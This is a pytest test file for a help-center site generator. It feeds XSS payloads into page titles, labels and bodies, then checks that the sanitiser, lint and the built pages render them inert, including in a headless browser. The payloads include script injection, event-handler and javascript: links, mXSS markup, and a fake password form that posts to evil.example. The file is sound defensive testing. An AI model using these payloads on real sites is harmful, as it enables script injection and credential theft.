"""Markup and script in content: every front-matter and taxonomy value is shown as text, bodies keep only
the allowed HTML, on both sites, in the built files and in a real browser (headless Chromium)."""

from __future__ import annotations

import html
import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from browser import chromium, free_port, serve
from click.testing import CliRunner
from conftest import REPO_ROOT, MiniKB, page
from gitrepo import GitRepo

from kbtools.cli import main
from kbtools.model import sanitize
from kbtools.model.project import KnowledgeBase
from kbtools.workflows.lint import lint
from site_plugins.build import BuildError, BuildOptions, build_sites


def payload(where: str) -> str:
    """A value that runs script (setting window.__pwned to `where`) wherever a page prints it unescaped: as
    element content, inside a quoted attribute, inside <title>, as Markdown."""
    run = f"window.__pwned='{where}'"
    return (
        f'zorblax <img src=x onerror="{run}"> "><svg onload="{run}"></svg> '
        f"</title><script>{run}</script> [link](javascript:{run}) *{where}*"
    )


def text_payload(where: str) -> str:
    """A payload without `<` (kb lint refuses markup in mkdocs.yml's texts): it breaks out of a quoted
    attribute, or reads as Markdown, wherever a page prints it unescaped."""
    run = f"window.__pwned='{where}'"
    return f'zorblax " autofocus onfocus="{run}" onmouseover="{run}" x=" & *{where}*'


# Every front-matter value and taxonomy label a page shows, each with its own payload
VALUE_FIELDS = (
    "site name",
    "site description",
    "site author",
    "copyright",
    "category label",
    "category description",
    "tag label",
    "team name",
    "queue name",
    "case reason label",
    "language name",
    "title",
    "summary",
    "keyword",
    "author key",  # not in kb's schema (lint says so), but mkdocs-material prints page.meta.author
    "macro title",
    "macro summary",
    "macro action",
)
LITERAL_TITLE = 'Cards & "limits" <2026>'

# Body HTML, one shape per line: each would run script (or send what a reader types) if published as written
BODY_SHAPES = {
    "script": "<script>window.__pwned='body script'</script>",
    "img onerror": "<img src=x onerror=\"window.__pwned='body img'\">",
    "javascript link": '<a id="js-link" href="javascript:window.__pwned=\'body link\'">click</a>',
    "obfuscated javascript link": '<a id="js-link-2" href=" jav&#x61;script:window.__pwned=\'body link 2\'">x</a>',
    "svg onload": '<svg onload="window.__pwned=\'body svg\'"><circle r="1"></circle></svg>',
    "iframe srcdoc": "<iframe srcdoc=\"<script>parent.__pwned='body iframe'</script>\"></iframe>",
    "style": "<style>.md-content { display: none }</style>",
    "form": '<form action="https://evil.example/steal"><input name="password"><button>Sign in</button></form>',
    "object": '<object data="javascript:window.__pwned=1"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "meta refresh": '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "div handler": '<div onmouseover="window.__pwned=\'body div\'" id="hover-me">hover</div>',
    "math mutation": "<math><mtext><table><mglyph><style><img src=x onerror=\"window.__pwned='mxss'\">"
    "</style></mglyph></table></mtext></math>",
}
# Headings: their text also reaches the table of contents and the search index
HEADINGS = """\
## Raw <img src=x onerror="window.__pwned='heading html'"> heading

## Entity &lt;img src=x onerror="window.__pwned='heading entity'"&gt; heading

## Labelled heading {data-toc-label="<img src=x onerror=window.__pwned='toc label'>"}

## Code `<img src=x onerror="window.__pwned='heading code'">` heading
"""
# Written in Markdown, not HTML: must reach the reader as the literal text they are
LITERAL_BODY = """\
Inline code: `<img src=x onerror="window.__pwned='code'">` stays text.

Entities: &lt;script&gt;window.__pwned='entity'&lt;/script&gt; stays text.

```html
<script>window.__pwned='fence'</script>
```
"""


def _yaml(value: str) -> str:
    return json.dumps(value)  # a JSON string is a YAML double-quoted string


def _taxonomy() -> str:
    v = {field: _yaml(payload(field)) for field in VALUE_FIELDS}
    return f"""\
languages:
  - code: en
    name: {v["language name"]}
  - code: fr
    name: Français
teams:
  support:
    name: {v["team name"]}
queues:
  tier1:
    name: {v["queue name"]}
categories:
  cards:
    label: {{en: {v["category label"]}, fr: {v["category label"]}}}
    description: {{en: {v["category description"]}, fr: {v["category description"]}}}
    owner: support
  playbooks:
    label: {{en: Playbooks, fr: Procédures}}
    owner: support
    audience: internal
tags:
  refund: {{en: {v["tag label"]}, fr: {v["tag label"]}}}
case_reasons:
  card:
    label: {{en: {v["case reason label"]}, fr: {v["case reason label"]}}}
    sub_reasons:
      declined: {{label: {{en: Declined, fr: Refusé}}, queue: tier1}}
review_intervals:
  article: 365d
  macro: 180d
"""


def _hostile_tree(kb: MiniKB) -> None:
    (kb.root / "mkdocs.yml").write_text(
        f"site_name: {_yaml(text_payload('site name'))}\nsite_url: http://127.0.0.1:8000/\n"
        f"site_description: {_yaml(text_payload('site description'))}\n"
        f"site_author: {_yaml(text_payload('site author'))}\n"
        f"copyright: {_yaml(text_payload('copyright'))}\n"
        # Every place mkdocs-material shows titles: tabs, breadcrumbs, footer links
        "theme:\n  name: material\n  features: [navigation.tabs, navigation.path, navigation.footer]\n"
    )
    (kb.root / "content" / "taxonomy.yml").write_text(_taxonomy(), encoding="utf-8")
    body = "## Steps\n\n" + "\n\n".join(BODY_SHAPES.values()) + "\n\n" + HEADINGS + "\n" + LITERAL_BODY
    kb.write(
        "en/cards/hostile.md",
        page(
            "hostile",
            _yaml(payload("title")),
            summary=_yaml(payload("summary")),
            keywords=f"[{_yaml(payload('keyword'))}]",
            tags="[refund]",
            case_reason="card/declined",
            related="[literal]",
            extra=f"author: {_yaml(payload('author key'))}\n",
            body=body,
        ),
    )
    # Neighbours: their navigation, footer links and related lists show the hostile title
    kb.write("en/cards/literal.md", page("literal", _yaml(LITERAL_TITLE), related="[hostile]", tags="[refund]"))
    kb.both(
        "cards/neighbour.md",
        page("neighbour", "Neighbour page", related="[hostile]"),
        page("neighbour", "Page voisine", related="[hostile]"),
    )
    kb.write(
        "en/cards/macro-hostile.md",
        page(
            "macro-hostile",
            _yaml(payload("macro title")),
            type="macro",
            audience="internal",
            summary=_yaml(payload("macro summary")),
            extra=f"actions:\n  group: tier1\n  add_tags: [refund_ok]\n  comment: {_yaml(payload('macro action'))}\n",
            body="Hi {{ticket.requester.first_name}},\n\nYour card works again.\n",
        ),
    )


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, MiniKB, int]:
    kb = MiniKB(tmp_path_factory.mktemp("markup") / "kb")
    _hostile_tree(kb)
    GitRepo(kb.root).commit("Hostile content", date="2026-03-02T09:00:00+00:00")
    port = free_port()
    base = f"http://127.0.0.1:{port}/"
    build_sites(KnowledgeBase(kb.root), BuildOptions(base_url=base, service_url=base.rstrip("/")))
    return kb.root / "site", kb, port


# Pages that show the hostile values: article, its neighbours, category, home, tags, 404, French fallback
PUBLIC_PAGES = ("", "cards/", "cards/hostile/", "cards/literal/", "cards/neighbour/", "tags/", "tags/refund/")
PUBLIC_PAGES_FR = ("fr/", "fr/cards/", "fr/cards/hostile/", "fr/tags/refund/")
WIKI_PAGES = ("internal/", "internal/cards/", "internal/cards/hostile/", "internal/cards/macro-hostile/")


def _site_file(site: Path, url: str) -> Path:
    audience = "internal" if url.startswith("internal/") else "public"
    return site / audience / url.removeprefix("internal/") / "index.html"


class _Markup(HTMLParser):
    """Elements and attributes of an HTML text that would run script, load a document or send a form."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.open: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.open = tag
        values = " ".join(value or "" for _, value in attrs)
        # The theme's own forms and inputs stay (search, toggles); the payloads' go to evil.example or ask for
        # a password
        if tag in ("iframe", "object", "embed", "base", "frame") or "evil.example" in values or "password" in values:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name == "srcdoc" or (name == "http-equiv" and tag == "meta"):
                self.found.append(f"{name} on <{tag}>")
            if name in ("href", "src", "data", "action") and re.match(r"\s*javascript:", value or "", re.I):
                self.found.append(f"javascript: in {name} of <{tag}>")

    def handle_data(self, data: str) -> None:
        if self.open == "script" and "__pwned" in data:
            self.found.append("<script> with a payload")
        if self.open == "style" and ".md-content" in data:
            self.found.append("<style> from a body")


def _executable_markup(text: str) -> list[str]:
    """What a browser would run or load in `text`, read as HTML (as a page, or as mkdocs-material inserts the
    search index's fields)."""
    parser = _Markup()
    parser.feed(text)
    parser.close()
    return parser.found


@pytest.mark.parametrize("url", PUBLIC_PAGES + PUBLIC_PAGES_FR + WIKI_PAGES + ("404.html",))
def test_built_pages_carry_no_executable_markup(hostile, url: str) -> None:
    site, _, _ = hostile
    path = site / "public" / "404.html" if url == "404.html" else _site_file(site, url)
    text = path.read_text(encoding="utf-8")
    assert _executable_markup(text) == []
    assert "&amp;lt;" not in text and "&amp;amp;" not in text  # escaped once, not twice


def test_search_index_titles_and_keywords_are_text(hostile) -> None:
    """mkdocs-material's search results insert titles, text and tags from the index as HTML."""
    site, _, _ = hostile
    index = json.loads((site / "public/search/search_index.json").read_text(encoding="utf-8"))
    docs = [doc for doc in index["docs"] if doc["location"].startswith("cards/hostile/")]
    assert docs, "the hostile page is indexed"
    for doc in index["docs"]:
        fields = " ".join([doc["title"], doc["text"], *doc.get("tags", [])])
        assert _executable_markup(fields) == [], doc["location"]
    assert html.unescape(docs[0]["title"]) == payload("title")


def test_kb_fragments_show_values_escaped_once(hostile) -> None:
    """The wiki's facts box, the macro panel and the related list hold the values as text."""
    site, _, _ = hostile
    wiki = _site_file(site, "internal/cards/hostile/").read_text(encoding="utf-8")
    facts = re.search(r'<dl class="kb-info">.*?</dl>', wiki, re.S)
    assert facts is not None and _executable_markup(facts.group(0)) == []
    shown = [html.unescape(value) for value in re.findall(r"<dd>(.*?)</dd>", facts.group(0), re.S)]
    for field in ("team name", "queue name", "keyword", "case reason label"):
        assert any(payload(field) in value for value in shown), field  # the whole value, as text
    macro = _site_file(site, "internal/cards/macro-hostile/").read_text(encoding="utf-8")
    assert _executable_markup(macro) == []
    actions = re.search(r'<table class="kb-actions">.*?</table>', macro, re.S)
    assert actions is not None and payload("macro action") in html.unescape(actions.group(0))
    neighbour = _site_file(site, "cards/neighbour/").read_text(encoding="utf-8")
    related = re.search(r'id="kb-related".*?</ul>', neighbour, re.S)
    assert related is not None and "zorblax" in related.group(0)


def test_generated_markdown_values_are_not_read_as_markdown(hostile) -> None:
    """A label holding `[link](javascript:...)` or `*emphasis*` is shown as written on kb's generated pages."""
    site, _, _ = hostile
    home = _site_file(site, "").read_text(encoding="utf-8")
    assert "javascript:" not in re.sub(r"\[link\]\(javascript:", "", home)
    assert "<em>category label</em>" not in home and "*category label*" in html.unescape(home)


@pytest.fixture(scope="module")
def browser():
    with chromium() as launched:
        yield launched


@pytest.fixture(scope="module")
def server(hostile):
    """One server for the module, as in tests/test_browser.py: a server closed between tests waits for the
    connections the (module-wide) browser keeps open."""
    site, _, port = hostile
    with serve(site, port) as running:
        yield running


def _visit(browser, url: str) -> tuple[object, list[str], str]:
    """Open `url`; (window.__pwned, dialogs opened, the page's visible text)."""
    context = browser.new_context()
    context.set_default_timeout(10_000)  # a missing element fails soon, not after 30 s
    tab = context.new_page()
    dialogs: list[str] = []
    tab.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    tab.goto(url, wait_until="load")
    for selector in ("#js-link", "#js-link-2", "#hover-me"):  # the body links and handlers, if they survived
        if tab.locator(selector).count():
            tab.locator(selector).first.click()
    flag = tab.evaluate("window.__pwned === undefined ? null : window.__pwned")
    text = tab.locator("body").inner_text()
    context.close()
    return flag, dialogs, text


@pytest.mark.parametrize("url", PUBLIC_PAGES + PUBLIC_PAGES_FR + WIKI_PAGES)
def test_no_payload_runs_in_the_browser(server, browser, url: str) -> None:
    flag, dialogs, text = _visit(browser, server.url + url)
    assert flag is None, f"a payload ran: {flag}"
    assert dialogs == []
    assert "zorblax" in text  # the hostile values are there, as text


def test_hostile_values_read_as_written(server, browser) -> None:
    """A reader sees the title exactly as the writer typed it: in the heading, the tab title, the navigation."""
    context = browser.new_context()
    context.set_default_timeout(10_000)
    tab = context.new_page()
    tab.goto(server.url + "cards/literal/")
    assert tab.locator("article h1").inner_text() == LITERAL_TITLE
    assert tab.title().startswith(LITERAL_TITLE)
    assert tab.locator(".md-nav__link", has_text=LITERAL_TITLE).count() >= 1
    tab.goto(server.url + "cards/hostile/")
    assert tab.locator("article h1").inner_text() == payload("title")
    code = tab.locator("article code", has_text="pwned='code'").first.inner_text()
    assert code == "<img src=x onerror=\"window.__pwned='code'\">"
    assert "<script>window.__pwned='entity'</script>" in tab.locator("article").inner_text()
    assert tab.locator(".md-content").is_visible()  # the body's <style> did not hide the page
    assert tab.locator("article input[name=password], article form[action*=evil], article iframe").count() == 0
    # kb's generated pages write titles and labels into Markdown: still exactly as written
    tab.goto(server.url + "cards/")
    assert tab.locator("article a", has_text="zorblax").first.inner_text() == payload("title")
    assert tab.locator("article h1").inner_text() == payload("category label")
    tab.goto(server.url + "tags/refund/")
    assert payload("tag label") in tab.locator("article").inner_text()
    context.close()


def test_public_search_results_show_hostile_titles_as_text(server, browser) -> None:
    context = browser.new_context()
    context.set_default_timeout(10_000)
    tab = context.new_page()
    dialogs: list[str] = []
    tab.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    tab.goto(server.url + "cards/neighbour/")
    tab.wait_for_load_state("networkidle")  # the search index is loaded by a web worker
    tab.locator(".md-search__input").first.click()
    tab.locator('[data-md-component="search-query"]').press_sequentially("zorblax", delay=30)
    tab.locator(".md-search-result__item").first.wait_for()
    assert tab.evaluate("window.__pwned === undefined ? null : window.__pwned") is None
    assert "zorblax" in tab.locator(".md-search-result").inner_text()
    assert dialogs == []
    context.close()


BODY_LINES = list(BODY_SHAPES.items())


def _lint_tree(kb: MiniKB) -> None:
    lines = ["## Steps", ""]
    for _, shape in BODY_LINES:
        lines += [shape, ""]
    lines += ["!!! note", "", "    " + BODY_SHAPES["img onerror"], "", LITERAL_BODY]
    kb.write("en/cards/shapes.md", page("shapes", "Shapes", body="\n".join(lines) + "\n"))


@pytest.mark.parametrize(("shape", "index"), [(name, i) for i, (name, _) in enumerate(BODY_LINES)])
def test_lint_reports_each_script_capable_shape_with_its_line(mini_kb: MiniKB, shape: str, index: int) -> None:
    _lint_tree(mini_kb)
    body_first_line = 12  # page(): 10 front-matter lines, a blank line, then the body
    line = body_first_line + 2 + 2 * index
    found = [f for f in lint(KnowledgeBase(mini_kb.root)).findings if f.rule == "unsafe-html"]
    at_line = [f for f in found if f.line == line]
    assert at_line, f"{shape} at line {line} not reported: {[(f.line, f.message) for f in found]}"
    assert all(f.path.name == "shapes.md" and f.severity.name == "ERROR" for f in at_line)


def test_lint_reports_html_inside_admonitions_and_leaves_code_alone(mini_kb: MiniKB) -> None:
    _lint_tree(mini_kb)
    text = (mini_kb.root / "content/en/cards/shapes.md").read_text().splitlines()
    admonition_line = text.index("    " + BODY_SHAPES["img onerror"]) + 1
    found = [f for f in lint(KnowledgeBase(mini_kb.root)).findings if f.rule in ("unsafe-html", "html-removed")]
    assert any(f.line == admonition_line for f in found)
    literal_lines = {
        i + 1 for i, line in enumerate(text) if "'code'" in line or "'entity'" in line or "'fence'" in line
    }
    assert not [f for f in found if f.line in literal_lines]


def test_markup_the_allow_list_drops_is_a_warning(mini_kb: MiniKB) -> None:
    mini_kb.write("en/cards/video.md", page("video", "Video", body="Watch: <video src=intro.mp4></video>\n"))
    found = [
        f
        for f in lint(KnowledgeBase(mini_kb.root)).findings
        if f.path.name == "video.md" and f.rule in ("html-removed", "unsafe-html")
    ]
    assert [(f.rule, f.severity.name, f.line) for f in found] == [("html-removed", "WARNING", 12)]
    assert "<video>" in found[0].message


def test_strict_build_fails_naming_the_page_whose_html_was_removed(mini_kb: MiniKB) -> None:
    """HTML lint cannot see (attr_list's attributes are Markdown) is still removed, and a strict build says where."""
    body = "Text\n{: onclick=\"window.__pwned='attr list'\" }\n"
    mini_kb.both("cards/x.md", page("x", "X", body=body), page("x", "X", body="Texte\n"))
    with pytest.raises(BuildError) as failed:
        build_sites(KnowledgeBase(mini_kb.root), BuildOptions(strict=True))
    assert "cards/x.md" in str(failed.value) and "onclick on <p>" in str(failed.value)
    build_sites(KnowledgeBase(mini_kb.root), BuildOptions())
    built = (mini_kb.root / "site/public/cards/x/index.html").read_text(encoding="utf-8")
    assert "Text" in built and "onclick" not in built


@pytest.mark.parametrize("shape", sorted(BODY_SHAPES))
def test_the_sanitiser_removes_every_shape(shape: str) -> None:
    cleaned = sanitize.clean(f"<p>before</p>{BODY_SHAPES[shape]}<p>after</p>")
    assert _executable_markup(cleaned) == []
    assert "before" in cleaned and "after" in cleaned
    assert sanitize.problems(BODY_SHAPES[shape])  # and lint and the build say so


def test_the_sample_help_center_builds_strict_with_nothing_removed(tmp_path: Path) -> None:
    """The allow-list keeps everything kb's Markdown and mkdocs-material produce for legitimate pages: a strict
    build fails on any sanitiser warning."""
    result = build_sites(KnowledgeBase(REPO_ROOT), BuildOptions(out_dir=tmp_path, strict=True))
    assert set(result.sites) == {"public", "internal"}


LEGITIMATE_BODY = """\
## Shortcuts

Press ++ctrl+alt+del++, then ==mark== ^^inserted^^ ~~deleted~~ H~2~O {--old--}{++new++} (c) :smile:
with a footnote[^1] and an abbreviation: HTML.

*[HTML]: HyperText Markup Language

Card
:   A payment card.

```python title="limits.py" linenums="1" hl_lines="2"
limit = 500
print(f"{limit} EUR")
```

Inline `#!python print(1)` code.

??? note "Collapsed"
    Hidden text.

???+ tip
    Open text.

| Left | Right |
|:-----|------:|
| 1    | 2     |

![A card](card.png){ width="300" loading=lazy }

[^1]: The note.
"""
LEGITIMATE_EXTENSIONS = """\
markdown_extensions:
  - footnotes
  - def_list
  - abbr
  - pymdownx.highlight: {anchor_linenums: true, line_spans: __span, pygments_lang_class: true}
  - pymdownx.inlinehilite
  - pymdownx.keys
  - pymdownx.mark
  - pymdownx.caret
  - pymdownx.tilde
  - pymdownx.critic
  - pymdownx.smartsymbols
  - pymdownx.emoji
"""


def test_the_allow_list_keeps_what_markdown_extensions_produce(mini_kb: MiniKB) -> None:
    """Footnotes, keys, marks, definitions, abbreviations, highlighted code with line anchors, collapsible
    blocks, aligned tables, images with attributes and emoji: a strict build removes nothing."""
    (mini_kb.root / "mkdocs.yml").write_text("site_name: Test\n" + LEGITIMATE_EXTENSIONS, encoding="utf-8")
    mini_kb.both("cards/rich.md", page("rich", "Rich", body=LEGITIMATE_BODY), page("rich", "Riche"))
    (mini_kb.root / "content/en/cards/card.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    build_sites(KnowledgeBase(mini_kb.root), BuildOptions(strict=True))
    built = (mini_kb.root / "site/internal/cards/rich/index.html").read_text(encoding="utf-8")
    for kept in (
        '<kbd class="key-control">',
        "<mark>",
        "<ins>",
        "<del>",
        '<sup id="fnref:1">',
        "<dl>",
        '<abbr title="HyperText Markup Language">',
        'name="__codelineno-0-1"',
        '<details class="note">',
        '<details class="tip" open',
        'align="left"',  # kb's tables align with attributes, which the Content-Security-Policy allows
        'loading="lazy"',
        'class="emojione"',
    ):
        assert kept in built, kept


@pytest.mark.parametrize("shape", ["script", "img onerror", "iframe srcdoc", "form"])
def test_kb_build_refuses_a_body_with_script_capable_html(mini_kb: MiniKB, shape: str) -> None:
    """`kb build` runs lint first: the writer gets file, line and what, and no site is built."""
    body = f"Intro\n\n{BODY_SHAPES[shape]}\n"
    mini_kb.both("cards/a.md", page("a", "A", body=body), page("a", "A", body=body))
    result = CliRunner().invoke(main, ["--root", str(mini_kb.root), "build"])
    assert result.exit_code == 1
    assert "content/en/cards/a.md:14: error:" in result.output and "[unsafe-html]" in result.output
    assert "Traceback" not in result.output
    assert not (mini_kb.root / "site/public/cards/a").exists()
